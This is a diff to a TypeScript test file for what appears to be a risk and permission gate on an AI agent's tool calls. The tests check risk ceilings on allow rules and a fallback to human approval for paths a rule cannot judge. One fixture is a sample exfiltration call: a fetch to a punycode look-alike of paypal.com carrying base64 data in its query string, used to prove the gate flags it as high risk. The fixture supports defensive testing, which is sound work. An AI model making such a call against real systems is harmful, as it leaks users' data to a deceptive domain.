@@ -2,6 +2,8 @@ import { describe, it, expect } from 'vitest';
 import type { RiskAssessment, RiskLevel, Rule, ToolDefinition } from '../contract/types';
 import { decide, isReadOnly, type DecideInput } from './decide';
 import type { PathEnv } from './paths';
+import { assessRisk } from './risk';
+import { validateRule } from './rules';
 
 const env: PathEnv = { home: '/home/u', cwd: '/home/u/project', caseInsensitive: false, sep: '/' };
 const NOW = 1_700_000_000_000;
@@ -238,5 +240,73 @@ describe('isReadOnly', () => {
     ['send_list', { name: 'send_list' }, false],
   ])('%s → %s', (name, def, expected) => {
     expect(isReadOnly(name, st(def))).toBe(expected);
+  });
+});
+
+describe('allow rules carry a risk ceiling unless "any risk" is chosen', () => {
+  // A look-alike of paypal.com, carrying a base64 blob out in its query string.
+  const exfil = {
+    url: 'https://xn--pypal-4ve.com/collect?d=Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MGFiY2RlZkdISUpLTE1OT1A',
+  };
+  const fetchTool: ToolDefinition = { name: 'fetch', annotations: { openWorldHint: true } };
+  const state = { definition: fetchTool, isNew: false, changed: false, poison: [] };
+  const riskOf = assessRisk({ tool: 'fetch', arguments: exfil }, state, {
+    roots: [],
+    env,
+    readSensitiveEarlier: false,
+    knownDomains: [],
+  });
+
+  function fetchDecision(draft: Record<string, unknown>) {
+    const checked = validateRule({ tool: 'fetch', ...draft });
+    if (!checked.ok) throw new Error(checked.error);
+    const saved: Rule = { ...checked.rule, id: 7, createdAt: NOW - 1 };
+    return decide({
+      ...input({ def: fetchTool }),
+      call: { serverId: 1, sessionId: 's1', tool: 'fetch', arguments: exfil },
+      rules: [saved],
+      risk: riskOf,
+    });
+  }
+
+  it('a plain fetch allow rule stops at medium: the HIGH punycode + base64 call asks', () => {
+    expect(riskOf.level).toBe('high');
+    expect(riskOf.reasons.map((r) => r.code)).toEqual(
+      expect.arrayContaining(['url.punycode', 'secret.entropy']),
+    );
+    const decision = fetchDecision({ action: 'allow' });
+    expect(decision.verdict).toBe('ask');
+    expect(decision.reasons[0]).toBe('Rule 7 allows up to medium risk; this call is high.');
+  });
+
+  it('"any risk" is an explicit null, and then the same call is allowed', () => {
+    expect(fetchDecision({ action: 'allow', riskCeiling: null }).verdict).toBe('allow');
+    expect(fetchDecision({ action: 'allow', riskCeiling: 'high' }).verdict).toBe('allow');
+  });
+
+  it('ask and deny rules get no ceiling', () => {
+    const checked = validateRule({ tool: 'fetch', action: 'deny' });
+    expect(checked.ok && checked.rule.riskCeiling).toBeNull();
+  });
+});
+
+describe('a path an allow rule cannot judge', () => {
+  it('asks, and says which rule could not judge which path and why', () => {
+    const allow = rule({
+      id: 42,
+      tool: 'write_file',
+      conditions: [{ path: 'path', op: 'under', value: '/p/project' }],
+    });
+    const decision = decide({
+      ...input({ def: WRITE_FILE }),
+      call: { serverId: 1, sessionId: 's1', tool: 'write_file', arguments: { path: 'rel.txt' } },
+      rules: [allow],
+      risk: risk('low'),
+    });
+    expect(decision.verdict).toBe('ask');
+    expect(decision.reasons).toEqual([
+      `Rule 42 does not apply: it cannot judge the path "rel.txt" (it is relative, so it depends on the server's directory).`,
+      'Not clearly read-only and low risk, so a person decides.',
+    ]);
   });
 });
